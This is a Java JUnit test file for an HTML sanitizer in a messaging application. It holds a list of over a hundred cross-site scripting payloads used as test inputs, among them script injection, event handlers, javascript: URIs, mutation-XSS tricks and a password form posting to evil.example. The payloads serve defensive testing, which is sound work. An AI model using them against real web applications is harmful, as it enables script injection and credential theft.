package dev.perennial.messaging;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeout;

import java.time.Duration;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class SafeHtmlTests {
    private static final Set<String> SHOWN = Set.of(
            "html head body p div span br hr center b i u em strong s strike del ins small big sub sup tt code pre kbd samp q cite abbr font h1 h2 h3 h4 h5 h6 ul ol li dl dt dd blockquote table caption thead tbody tfoot tr td th address a img"
                    .split(" "));
    private static final Set<String> SAID = Set.of(
            "href target rel src data-src alt title dir align valign width height border cellpadding cellspacing colspan rowspan color bgcolor start type class id name"
                    .split(" "));

    @ParameterizedTest
    @MethodSource("payloads")
    void nothingThatActsIsLeft(String payload) {
        isInert(SafeHtml.clean(payload), false);
        isInert(SafeHtml.clean("<table><tr><td>" + payload), false);
        isInert(SafeHtml.forDisplay(payload, true, _ -> Optional.of("/messaging/files/1")), true);
    }

    /// What a browser makes of it and writes down again must be what was cleaned: else something slept in it.
    @ParameterizedTest
    @MethodSource("payloads")
    void readingItAgainWakesNothing(String payload) {
        var cleaned = SafeHtml.clean(payload);
        var again = Jsoup.parseBodyFragment(cleaned).body().html();
        isInert(again, false);
        isInert(Jsoup.parseBodyFragment(again).body().html(), false);
        assertThat(SafeHtml.clean(SafeHtml.clean(cleaned))).isEqualTo(SafeHtml.clean(cleaned));
    }

    @Test
    void thereAreAHundredPayloads() {
        assertThat(payloads()).hasSizeGreaterThanOrEqualTo(100);
    }

    @Test
    void picturesFromElsewhereWaitUntilTheyAreAskedFor() {
        var cleaned = SafeHtml.clean("<img src=\"https://shop.example/a.png\" alt=\"A cake\">");
        assertThat(cleaned).contains("data-src=\"https://shop.example/a.png\"").doesNotContain(" src=");
        assertThat(SafeHtml.waitsForPictures(cleaned)).isTrue();
        assertThat(SafeHtml.forDisplay(cleaned, false, _ -> Optional.empty())).doesNotContain(" src=");
        assertThat(SafeHtml.forDisplay(cleaned, true, _ -> Optional.empty()))
                .contains(" src=\"https://shop.example/a.png\"")
                .doesNotContain("data-src");
    }

    @Test
    void enclosedPicturesLeadToTheirFiles() {
        var cleaned = SafeHtml.clean("<img src=\"cid:cake%40shop\"><img src=\"cid:none\" alt=\"gone\">");
        assertThat(SafeHtml.waitsForPictures(cleaned)).isFalse();
        assertThat(SafeHtml.forDisplay(
                        cleaned, false, id -> id.equals("cake@shop") ? Optional.of("/files/7") : Optional.empty()))
                .contains("src=\"/files/7\"")
                .contains("alt=\"gone\"")
                .doesNotContain("cid:");
    }

    @Test
    void linksLeadAwayWithoutTellingFromWhere() {
        assertThat(SafeHtml.clean("<a href=\"https://mill.example/a?b=1&amp;c=2\">price list</a>"))
                .contains("href=\"https://mill.example/a?b&#61;1&amp;c&#61;2\"")
                .contains("target=\"_blank\"")
                .contains("rel=\"noopener noreferrer nofollow\"");
    }

    @Test
    void whatPeopleWriteStays() {
        assertThat(
                        SafeHtml.clean(
                                "<h2>Menu</h2><ul><li>Rye &amp; <b>wheat</b></li></ul><table border=\"1\"><tr><td>2</td>"
                                        + "<td align=\"right\">3 €</td></tr></table><blockquote type=\"cite\">old</blockquote>"))
                .isEqualTo(
                        "<h2>Menu</h2><ul><li>Rye &amp; <b>wheat</b></li></ul><table border=\"1\"><tbody><tr><td>2</td>"
                                + "<td align=\"right\">3 €</td></tr></tbody></table><blockquote type=\"cite\">old</blockquote>");
    }

    @Test
    void fiveMillionLettersOfNestingCostSecondsNotMinutes() {
        for (var piece : new String[] {"<div>", "<table><tr><td>", "<a href=x><p>", "<svg><g>", "<!--"})
            assertTimeout(
                    Duration.ofSeconds(20),
                    () -> assertThat(SafeHtml.clean(piece.repeat(5_000_000 / piece.length())))
                            .hasSizeLessThan(20_000_000),
                    piece);
    }

    private static void isInert(String html, boolean mayFetch) {
        for (var element : Jsoup.parse(html).getAllElements()) {
            if (element.tagName().equals("#root")) continue;
            assertThat(SHOWN).as(html).contains(element.normalName());
            for (var attribute : element.attributes()) isInert(element, attribute, html, mayFetch);
        }
    }

    private static void isInert(Element element, Attribute attribute, String html, boolean mayFetch) {
        var value = attribute.getValue().strip().toLowerCase();
        assertThat(SAID).as(html).contains(attribute.getKey());
        switch (attribute.getKey()) {
            case "href" -> assertThat(value).as(html).matches("(?s)(https?://|mailto:|tel:).*");
            case "src" ->
                assertThat(value)
                        .as(html)
                        .matches(
                                mayFetch
                                        ? "(?s)(https?://|/messaging/|data:image/(png|jpeg|gif|webp);base64,).*"
                                        : "(?s)(cid:|data:image/(png|jpeg|gif|webp);base64,).*");
            case "data-src" -> assertThat(value).as(html).startsWith("http");
            default -> assertThat(value).as(html).doesNotContain("javascript:");
        }
    }

    static Stream<String> payloads() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<script/x>alert(1)</script>",
                "<<script>alert(1);//<</script>",
                "<script>alert(1)",
                "</script><script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<img src=x onerror=\"alert(1)\"//",
                "<img/src=`x`onerror=alert(1)>",
                "<img src='x' onerror\n=\nalert(1)>",
                "<img \u0000src=x onerror=alert(1)>",
                "<img src=javascript:alert(1)>",
                "<img src=\"jav\tascript:alert(1)\">",
                "<img src=\" &#14; javascript:alert(1)\">",
                "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
                "<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
                "<img dynsrc=javascript:alert(1)>",
                "<img lowsrc=javascript:alert(1)>",
                "<img srcset=\"https://evil.example/x 1x\">",
                "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
                "<img src=\"data:text/html,<script>alert(1)</script>\">",
                "<img src=\"data:image/png;base64,AAAA\" onload=alert(1)>",
                "<img usemap=#m><map name=m><area href=javascript:alert(1)></map>",
                "<input type=image src=x onerror=alert(1)>",
                "<body onload=alert(1)>",
                "<body background=javascript:alert(1)>",
                "<table background=\"https://evil.example/x.png\"><tr><td background=javascript:alert(1)>x",
                "<div style=\"background:url(javascript:alert(1))\">x</div>",
                "<div style=\"background-image:url(https://evil.example/t.gif)\">x</div>",
                "<div style=\"width:expression(alert(1))\">x</div>",
                "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">sign in</div>",
                "<p style='behavior:url(x.htc)'>x</p>",
                "<xss style=\"xss:expr/*x*/ession(alert(1))\">",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style><ul><li>x",
                "<style>*{x:expression(alert(1))}</style>",
                "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<link rel=\"preload\" as=\"image\" href=\"https://evil.example/x\">",
                "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                "<meta http-equiv=\"Set-Cookie\" content=\"x=1\">",
                "<base href=\"javascript:alert(1)//\">",
                "<base href=\"https://evil.example/\"><a href=\"x\">y</a>",
                "<iframe src=javascript:alert(1)></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<iframe src=\"data:text/html,x\">",
                "<frameset><frame src=javascript:alert(1)></frameset>",
                "<object data=javascript:alert(1)></object>",
                "<object type=text/html data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
                "<embed src=javascript:alert(1)>",
                "<embed code=https://evil.example/x.swf allowscriptaccess=always>",
                "<applet code=x>",
                "<svg onload=alert(1)>",
                "<svg/onload=alert(1)//",
                "<svg><script>alert(1)</script></svg>",
                "<svg><script xlink:href=data:,alert(1) />",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>",
                "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
                "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<math href=\"javascript:alert(1)\">x</math>",
                "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
                "<xmp><p title=\"</xmp><img src onerror=alert(1)>\">",
                "<textarea><p title=\"</textarea><img src onerror=alert(1)>\">",
                "<title><p title=\"</title><img src onerror=alert(1)>\">",
                "<plaintext><img src=x onerror=alert(1)>",
                "<listing>&lt;img onerror=\"alert(1)\" src=x&gt;</listing>",
                "<template><img src=x onerror=alert(1)></template>",
                "<template shadowrootmode=open><script>alert(1)</script></template>",
                "<a href=javascript:alert(1)>x</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\"java\nscript:alert(1)\">x</a>",
                "<a href=\"\u0001javascript:alert(1)\">x</a>",
                "<a href=\"javascript&colon;alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                "<a href=\"file:///etc/passwd\">x</a>",
                "<a href=\"//evil.example\">x</a>",
                "<a href=\"/messaging/accounts\" onclick=alert(1)>x</a>",
                "<a href=\"https://evil.example\" target=_top ping=https://evil.example>x</a>",
                "<a href=\"https://evil.example\" rel=opener>x</a>",
                "<a href=x:alert(1)>x</a>",
                "<a href='https://x\" onmouseover=\"alert(1)'>x</a>",
                "<b onmouseover=alert(1)>x</b>",
                "<b/onclick=alert(1)>x</b>",
                "<p onpointerenter=alert(1)>x</p>",
                "<details open ontoggle=alert(1)>x</details>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<video><source onerror=alert(1)></video>",
                "<video poster=javascript:alert(1)>",
                "<audio src=x onerror=alert(1)>",
                "<track src=https://evil.example/x.vtt>",
                "<select onfocus=alert(1) autofocus><option>x</select>",
                "<button formaction=javascript:alert(1)>x</button>",
                "<form action=https://evil.example><input name=password type=password></form>",
                "<isindex action=javascript:alert(1) type=submit>",
                "<keygen autofocus onfocus=alert(1)>",
                "<dialog open><form method=dialog>x</form></dialog>",
                "<portal src=https://evil.example>",
                "<slot name=x onslotchange=alert(1)>",
                "<custom-element onclick=alert(1) is=x>",
                "<div id=\"login\" name=\"body\" class=\"modal open\">x</div>",
                "<img name=getElementById id=cookie src=cid:x>",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<!--><img src=x onerror=alert(1)>-->",
                "<!--- --!><script>alert(1)</script>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml-stylesheet href=\"javascript:alert(1)\"?><?php echo 1 ?>",
                "<!DOCTYPE html [<!ENTITY x \"<script>\">]>&x;",
                "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
                "<image src=x onerror=alert(1)>",
                "<font color=\"red;background:url(x)\" face=\"x\" size=\"99999\">x</font>",
                "<td width=\"expression(alert(1))\" bgcolor=\"url(x)\">x</td>",
                "<p title='\"><script>alert(1)</script>'>x</p>",
                "<p title=\"</p><script>alert(1)</script>\">x",
                "<a title=\"a&quot; onmouseover=alert(1) x=&quot;\" href=https://x.example>x</a>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "\ufeff<\u200bscript>alert(1)</script>",
                "<p>\ud800<script>alert(1)</script>\udfff",
                "<img data-src=javascript:alert(1)>",
                "<img data-src=\"https://x.example/a b\" src=\"cid:a b\">");
    }
}
